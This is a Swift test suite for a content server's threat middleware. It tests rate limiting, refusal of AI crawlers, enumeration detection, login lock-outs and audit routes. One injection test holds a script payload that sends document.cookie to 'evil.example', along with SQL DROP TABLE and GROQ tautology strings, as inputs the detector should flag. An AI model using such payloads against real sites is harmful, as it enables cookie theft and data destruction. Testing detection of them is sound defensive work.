import FacetSchema
import FacetSecurity
@testable import FacetServer
import FacetStore
import Foundation
import GROQ
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import SchemaTypes
import StudioConfig
import Synchronization
import Testing
import TestSupport

/// A server with security on (the CRM's roles, a security database) and the given threat
/// policy; `role` chooses who every caller is (`nil`: unrestricted, as on a loopback server).
struct ThreatServerFixture {
    /// Every caller is the same principal: enough to test what a role may see.
    struct FixedPrincipal: AccessPolicy {
        let role: Role?
        func authorize(_ request: Request, context: FacetRequestContext, access: RouteAccess) async throws -> Principal? {
            role.map { Principal(id: "user-\($0.rawValue)", name: "tester-\($0.rawValue)", role: $0, kind: .user) }
        }
    }

    let directory: String
    let store: DocumentStore
    let security: SecuritySystem
    let api: FacetAPI

    init(role: Role? = nil, _ configure: (inout ThreatPolicy) -> Void = { _ in }) throws {
        directory = NSTemporaryDirectory() + "facet-threat-test-" + UUID().uuidString
        let schema = try CRMSchema.compile()
        security = try SecuritySystem(directory: directory, policy: CRMRoles.policy(schema: schema), schema: schema, environment: [:], passwordCost: 4)
        var policy = security.threats.policy
        configure(&policy)
        security.threats.policy = policy
        store = try DocumentStore(directory: directory, observer: security.audit)
        _ = try store.dataset("production", create: true)
        api = FacetAPI(store: store, schema: nil, access: FixedPrincipal(role: role), security: security)
    }

    func close() {
        store.close()
        try? FileManager.default.removeItem(atPath: directory)
    }

    static func json(_ response: TestResponse) throws -> JSONValue {
        try JSONValue(parsing: Array(response.body.readableBytesView))
    }

    static let browser: HTTPFields = [.userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"]
}

@Suite("threat middleware and security routes")
struct ThreatRouteTests {
    static let limit = HTTPField.Name("X-RateLimit-Limit")!
    static let remaining = HTTPField.Name("X-RateLimit-Remaining")!

    @Test func rateLimitHeadersThen429WithRetryAfter() async throws {
        // One token a day: a machine too busy to send the requests within seconds still sees
        // none come back between them.
        let fixture = try ThreatServerFixture { $0.addressLimit = RateLimit(perSecond: 1.0 / 86_400, burst: 3) }
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            var remaining: [String?] = []
            for _ in 0..<3 {
                let response = try await client.execute(uri: "/health", method: .get, headers: ThreatServerFixture.browser)
                #expect(response.status == .ok)
                #expect(response.headers[Self.limit] == "3")
                remaining.append(response.headers[Self.remaining])
            }
            #expect(remaining == ["2", "1", "0"])
            let refused = try await client.execute(uri: "/v1/data/query/production?query=count(*)", method: .get,
                                                   headers: ThreatServerFixture.browser)
            #expect(refused.status == .tooManyRequests)
            let retry = try #require(refused.headers[.retryAfter].flatMap(Int.init))
            #expect(retry >= 1 && retry <= 86_400)
            #expect(refused.headers[Self.limit] == "3")
            #expect(refused.headers[Self.remaining] == "0")
            let body = try ThreatServerFixture.json(refused)
            #expect(body["error"]?["type"] == "rateLimited")
            #expect(body["statusCode"] == 429)
        }
        let events = try fixture.security.threats.events(kind: .rateLimit)
        #expect(events.count == 1)
        #expect(events.first?.path == "/v1/data/query/production")
        #expect(events.first?.action == .throttled)
    }

    @Test func theStudiosFilesDoNotSpendTheAddresssLimit() async throws {
        // Two editors behind one address load the studio's forty-odd modules each: the files
        // must load, and the API must still be limited.
        let fixture = try ThreatServerFixture { $0.addressLimit = RateLimit(perSecond: 1.0 / 86_400, burst: 3) }
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            for path in ["/"] + Array(repeating: "/studio/app.js", count: 60) + ["/studio/nothing-here.js"] {
                let response = try await client.execute(uri: path, method: .get, headers: ThreatServerFixture.browser)
                #expect(response.status != .tooManyRequests, "\(path)")
            }
            var statuses: [HTTPResponse.Status] = []
            for _ in 0..<4 {
                statuses.append(try await client.execute(uri: "/health", method: .get, headers: ThreatServerFixture.browser).status)
            }
            #expect(statuses == [.ok, .ok, .ok, .tooManyRequests])
            // A write dressed as a studio path is no file: it is charged like any request.
            let posted = try await client.execute(uri: "/studio/app.js", method: .post, headers: ThreatServerFixture.browser)
            #expect(posted.status == .tooManyRequests)
        }
    }

    @Test func eachBearerTokenHasItsOwnLimit() async throws {
        let fixture = try ThreatServerFixture {
            $0.identityLimit = RateLimit(perSecond: 1.0 / 86_400, burst: 2)
            $0.addressLimit = RateLimit(perSecond: 100, burst: 1000)
        }
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            var first = ThreatServerFixture.browser
            first[.authorization] = "Bearer token-one"
            var second = ThreatServerFixture.browser
            second[.authorization] = "Bearer token-two"
            let statuses = try await [first, first, first, second].asyncMap { headers in
                try await client.execute(uri: "/health", method: .get, headers: headers).status
            }
            #expect(statuses == [.ok, .ok, .tooManyRequests, .ok])
        }
    }

    @Test func scrapersAreRefusedAndScriptsThrottledByPolicy() async throws {
        let fixture = try ThreatServerFixture {
            $0.automation[.scriptClient] = .throttle
            $0.automationLimit = RateLimit(perSecond: 1.0 / 86_400, burst: 2)
        }
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            for agent in ["Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", "ClaudeBot/1.0", "PerplexityBot/1.0",
                          "Mozilla/5.0 (compatible; Google-Extended)"]
            {
                let response = try await client.execute(uri: "/v1/data/query/production?query=*", method: .get, headers: [.userAgent: agent])
                #expect(response.status == .forbidden, "\(agent)")
                #expect(try ThreatServerFixture.json(response)["error"]?["type"] == "requestRefused")
            }
            var statuses: [HTTPResponse.Status] = []
            for _ in 0..<3 {
                statuses.append(try await client.execute(uri: "/health", method: .get, headers: [.userAgent: "python-requests/2.31.0"]).status)
            }
            #expect(statuses == [.ok, .ok, .tooManyRequests])
            // A browser is served.
            #expect(try await client.execute(uri: "/health", method: .get, headers: ThreatServerFixture.browser).status == .ok)
        }
        let automation = try fixture.security.threats.events(kind: .automation)
        #expect(automation.contains { $0.action == .refused && $0.userAgent?.contains("GPTBot") == true })
    }

    @Test func walkingThroughDocumentsIsRefusedByPolicy() async throws {
        let fixture = try ThreatServerFixture {
            $0.sequentialRun = 5
            $0.automation[.enumeration] = .refuse
        }
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            var statuses: [HTTPResponse.Status] = []
            for number in 1...6 {
                statuses.append(try await client.execute(uri: "/v1/data/doc/production/customer-\(number)", method: .get,
                                                         headers: ThreatServerFixture.browser).status)
            }
            #expect(statuses == [.ok, .ok, .ok, .ok, .forbidden, .forbidden])
            // A document out of sequence breaks the run: a person going back to a client is served.
            #expect(try await client.execute(uri: "/v1/data/doc/production/customer-1", method: .get, headers: ThreatServerFixture.browser).status == .ok)
        }
        let events = try fixture.security.threats.events(kind: .enumeration)
        #expect(events.count == 1)
        #expect(events.first?.reason.contains("5 consecutive ids") == true)
    }

    @Test func injectionIsFlaggedAndTheDocumentStoredUnchanged() async throws {
        let fixture = try ThreatServerFixture()
        defer { fixture.close() }
        let notes = #"<script>fetch('https://evil.example/?c='+document.cookie)</script> ' OR 1=1; DROP TABLE users; --"#
        try await Application(router: fixture.api.router()).test(.router) { client in
            var headers = ThreatServerFixture.browser
            headers[.contentType] = "application/json"
            let body: JSONValue = ["mutations": [["create": ["_id": "note-1", "_type": "note", "notes": .string(notes)]]]]
            let response = try await client.execute(uri: "/v1/data/mutate/production", method: .post, headers: headers,
                                                    body: ByteBuffer(string: body.serialized()))
            #expect(response.status == .ok, "\(String(buffer: response.body))")
            #expect(response.headers[Self.limit] != nil)

            let query = try await client.execute(uri: "/v1/data/query/production?query=*%5B_id%20%3D%3D%20%24id%5D&%24id=%22a%5C%22%20%7C%7C%20true%22",
                                                 method: .get, headers: ThreatServerFixture.browser)
            #expect(query.status == .ok)
        }
        // Stored exactly as sent.
        let stored = try #require(try fixture.store.dataset("production").document(id: "note-1"))
        #expect(stored["notes"]?.stringValue == notes)
        let events = try fixture.security.threats.events(kind: .injection)
        #expect(events.count == 2)
        let write = try #require(events.first { $0.path == "/v1/data/mutate/production" })
        #expect(write.action == .flagged)
        #expect(write.reason.contains("script/script-tag in body at mutations[0].create.notes"))
        #expect(write.reason.contains("sql/stacked-drop"))
        let read = try #require(events.first { $0.path == "/v1/data/query/production" })
        #expect(read.reason.contains("groq/groq-tautology in query parameter $id"))
    }

    @Test func signInLockOutGrowsAndSaysNothingAboutTheAccount() async throws {
        // A first lock-out of a minute, so that the slow decoy hashing of unknown accounts cannot outlast it.
        let fixture = try ThreatServerFixture { $0.lockoutBase = 60 }
        defer { fixture.close() }
        // Cost 4: the test is about lock-outs, not bcrypt's cost.
        let identities = IdentityStore(database: fixture.security.database, passwordCost: 4)
        try identities.addUser(name: "ada", role: .sales, password: "plum-velvet-orchard-1987", by: .system())
        try await Application(router: fixture.api.router()).test(.router) { client in
            func login(_ name: String, _ password: String = "wrong-password-000") async throws -> TestResponse {
                var headers = ThreatServerFixture.browser
                headers[.contentType] = "application/json"
                let body: JSONValue = ["username": .string(name), "password": .string(password)]
                return try await client.execute(uri: "/v1/auth/login", method: .post, headers: headers, body: ByteBuffer(string: body.serialized()))
            }
            for name in ["ada", "ghost"] {
                for _ in 0..<5 { #expect(try await login(name).status == .unauthorized) }
            }
            // Locked: even the right password is refused, with the same answer for both accounts.
            let known = try await login("ada", "plum-velvet-orchard-1987")
            let unknown = try await login("ghost")
            #expect(known.status == .tooManyRequests)
            #expect(known.headers[.retryAfter].flatMap(Int.init).map { $0 > 1 && $0 <= 60 } == true)
            #expect(unknown.status == known.status)
            // Byte for byte the same, but for how many seconds are left.
            func shape(_ response: TestResponse) -> String {
                String(buffer: response.body).replacing(/\d+/, with: "N")
            }
            #expect(shape(unknown) == shape(known))
            #expect(!String(buffer: known.body).contains("ada"))
        }
        let lockouts = try fixture.security.threats.events(kind: .lockout)
        #expect(Set(lockouts.compactMap(\.identity)) == ["ada", "ghost"])
        #expect(try fixture.security.audit.entries(AuditFilter(actions: ["security-event"])).count == lockouts.count)
    }

    @Test func eventsAreForAdminsOnly() async throws {
        for (role, allowed) in [(Role?.none, true), (.admin, true), (.manager, false), (.sales, false), (.support, false)] {
            let fixture = try ThreatServerFixture(role: role)
            defer { fixture.close() }
            try fixture.security.threats.record(SecurityEvent(kind: .automation, score: 90, reason: "user agent matches GPTBot",
                                                               address: "203.0.113.1", path: "/v1/data/query/production",
                                                               userAgent: "GPTBot/1.2", action: .refused))
            try await Application(router: fixture.api.router()).test(.router) { client in
                let response = try await client.execute(uri: "/v1/security/events", method: .get, headers: ThreatServerFixture.browser)
                if allowed {
                    #expect(response.status == .ok)
                    let events = try #require(try ThreatServerFixture.json(response)["events"]?.arrayValue)
                    #expect(events.count == 1)
                    #expect(events.first?["kind"] == "automation")
                    #expect(events.first?["score"] == 90)
                    #expect(events.first?["address"] == "203.0.113.1")
                    #expect(events.first?["action"] == "refused")
                    #expect(events.first?["reason"] == "user agent matches GPTBot")
                } else {
                    #expect(response.status == .forbidden, "\(role?.rawValue ?? "-")")
                    #expect(try ThreatServerFixture.json(response)["error"]?["type"] == "permissionDenied")
                    let audit = try await client.execute(uri: "/v1/security/audit", method: .get, headers: ThreatServerFixture.browser)
                    #expect(audit.status == .forbidden)
                }
            }
        }
    }

    @Test func eventsFilterByKindTimeAndLimit() async throws {
        let fixture = try ThreatServerFixture()
        defer { fixture.close() }
        let threats = fixture.security.threats
        try threats.record(SecurityEvent(time: Date(timeIntervalSinceNow: -7200), kind: .lockout, score: 60, reason: "old", action: .lockedOut))
        try threats.record(SecurityEvent(kind: .lockout, score: 70, reason: "recent", action: .lockedOut))
        try threats.record(SecurityEvent(kind: .injection, score: 80, reason: "probe", action: .flagged))
        try await Application(router: fixture.api.router()).test(.router) { client in
            func reasons(_ query: String) async throws -> [String] {
                let response = try await client.execute(uri: "/v1/security/events" + query, method: .get, headers: ThreatServerFixture.browser)
                #expect(response.status == .ok, "\(query): \(String(buffer: response.body))")
                return try ThreatServerFixture.json(response)["events"]?.arrayValue?.compactMap { $0["reason"]?.stringValue } ?? []
            }
            #expect(try await reasons("") == ["probe", "recent", "old"])
            #expect(try await reasons("?kind=lockout") == ["recent", "old"])
            #expect(try await reasons("?limit=1") == ["probe"])
            let hourAgo = Timestamp.string(Date(timeIntervalSinceNow: -3600))
            #expect(try await reasons("?kind=lockout&since=\(hourAgo)") == ["recent"])

            let badKind = try await client.execute(uri: "/v1/security/events?kind=ufo", method: .get, headers: ThreatServerFixture.browser)
            #expect(badKind.status == .badRequest)
            #expect(String(buffer: badKind.body).contains("rate-limit"))
            let badTime = try await client.execute(uri: "/v1/security/events?since=yesterday", method: .get, headers: ThreatServerFixture.browser)
            #expect(badTime.status == .badRequest)
        }
    }

    @Test func theAuditLogIsReadableAndVerifiable() async throws {
        let fixture = try ThreatServerFixture(role: .admin)
        defer { fixture.close() }
        try await Application(router: fixture.api.router()).test(.router) { client in
            var headers = ThreatServerFixture.browser
            headers[.contentType] = "application/json"
            let created = try await client.execute(uri: "/v1/data/mutate/production", method: .post, headers: headers,
                                                   body: ByteBuffer(string: #"{"mutations": [{"create": {"_id": "p-1", "_type": "product", "name": "Ring"}}]}"#))
            #expect(created.status == .ok)
            let transactionID = try ThreatServerFixture.json(created)["transactionId"]

            let listed = try await client.execute(uri: "/v1/security/audit?action=transaction", method: .get, headers: ThreatServerFixture.browser)
            #expect(listed.status == .ok)
            let documents = try #require(try ThreatServerFixture.json(listed)["documents"]?.arrayValue)
            #expect(documents.count == 1)
            #expect(documents.first?["_type"] == "auditLog")
            let sequence = try #require(documents.first?["sequence"]?.numberValue)
            #expect(documents.first?["_id"]?.stringValue == "audit." + String(format: "%012d", Int(sequence)))
            #expect(documents.first?["transactionId"] == transactionID)
            #expect(documents.first?["actor"] == "tester-admin")
            #expect(documents.first?["documentId"] == "p-1")

            let verified = try await client.execute(uri: "/v1/security/audit/verify", method: .get, headers: ThreatServerFixture.browser)
            let answer = try ThreatServerFixture.json(verified)
            #expect(answer["intact"] == true)
            #expect(answer["count"] == .number(Double(try fixture.security.audit.count())))
            #expect(answer["checkpoints"]?["problems"] == [])
        }
    }

    @Test func overloadIsShedWith503() async throws {
        let directory = NSTemporaryDirectory() + "facet-threat-test-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let database = try SecurityDatabase(directory: directory)
        var policy = ThreatPolicy()
        policy.maxInFlight = 1
        let monitor = ThreatMonitor(database: database, audit: AuditLog(database: database), policy: policy)
        let (gate, open) = AsyncStream<Void>.makeStream()
        let router = Router(context: FacetRequestContext.self)
        router.add(middleware: ThreatMiddleware(monitor: monitor))
        router.get("slow") { _, _ -> String in
            for await _ in gate { break }
            return "done"
        }
        router.get("fast") { _, _ -> String in "fast" }
        try await Application(router: router).test(.router) { client in
            async let slow = client.execute(uri: "/slow", method: .get, headers: ThreatServerFixture.browser)
            // Wait (without a time bound on the outcome) until the slow request holds the only slot.
            while monitor.inFlight < 1 { try await Task.sleep(for: .milliseconds(5)) }
            let shed = try await client.execute(uri: "/fast", method: .get, headers: ThreatServerFixture.browser)
            #expect(shed.status == .serviceUnavailable)
            #expect(shed.headers[.retryAfter] == "1")
            #expect(try ThreatServerFixture.json(shed)["error"]?["type"] == "serverBusy")
            open.yield()
            open.finish()
            #expect(try await slow.status == .ok)
            // The slot is free again.
            #expect(try await client.execute(uri: "/fast", method: .get, headers: ThreatServerFixture.browser).status == .ok)
        }
        #expect(try monitor.events(kind: .overload).count == 1)
    }

    @Test func documentIDsAreReadFromDocumentPaths() {
        #expect(ThreatMiddleware.documentIDs(inPath: "/v1/data/doc/production/c-1,c-2") == ["c-1", "c-2"])
        #expect(ThreatMiddleware.documentIDs(inPath: "/v2025-02-19/data/doc/production/drafts.c%2D3") == ["drafts.c-3"])
        #expect(ThreatMiddleware.documentIDs(inPath: "/v1/data/query/production").isEmpty)
    }
}

extension Array where Element: Sendable {
    func asyncMap<T>(_ transform: (Element) async throws -> T) async rethrows -> [T] {
        var results: [T] = []
        for element in self { results.append(try await transform(element)) }
        return results
    }
}

@Suite("slow clients")
struct SlowClientTests {
    @Test func aBodyThatNeverArrivesTimesOut() async throws {
        // A body stream that sends one piece and then nothing more.
        let (pieces, sender) = AsyncStream<ByteBuffer>.makeStream()
        sender.yield(ByteBuffer(string: #"{"mutations": ["#))
        let request = Request(head: HTTPRequest(method: .post, scheme: "http", authority: "localhost", path: "/v1/data/mutate/production"),
                              body: RequestBody(asyncSequence: pieces))
        let collected = try await ThreatMiddleware.collect(request, limit: 1 << 20, timeout: 0.05)
        #expect(collected == nil)
        sender.finish()
    }

    @Test func aBodyOverTheLimitIsRefusedWhileReading() async throws {
        let (pieces, sender) = AsyncStream<ByteBuffer>.makeStream()
        sender.yield(ByteBuffer(repeating: 0x20, count: 600))
        sender.yield(ByteBuffer(repeating: 0x20, count: 600))
        sender.finish()
        let request = Request(head: HTTPRequest(method: .post, scheme: "http", authority: "localhost", path: "/v1/data/mutate/production"),
                              body: RequestBody(asyncSequence: pieces))
        await #expect(throws: NIOTooManyBytesError.self) { try await ThreatMiddleware.collect(request, limit: 1000, timeout: 600) }
    }

    @Test func aBodyThatArrivesIsHandedOnWhole() async throws {
        let (pieces, sender) = AsyncStream<ByteBuffer>.makeStream()
        sender.yield(ByteBuffer(string: #"{"mutations": "#))
        sender.yield(ByteBuffer(string: #"[]}"#))
        sender.finish()
        let request = Request(head: HTTPRequest(method: .post, scheme: "http", authority: "localhost", path: "/v1/data/mutate/production"),
                              body: RequestBody(asyncSequence: pieces))
        let collected = try await ThreatMiddleware.collect(request, limit: 1 << 20, timeout: 600)
        #expect(collected.map { String(buffer: $0) } == #"{"mutations": []}"#)
    }
}
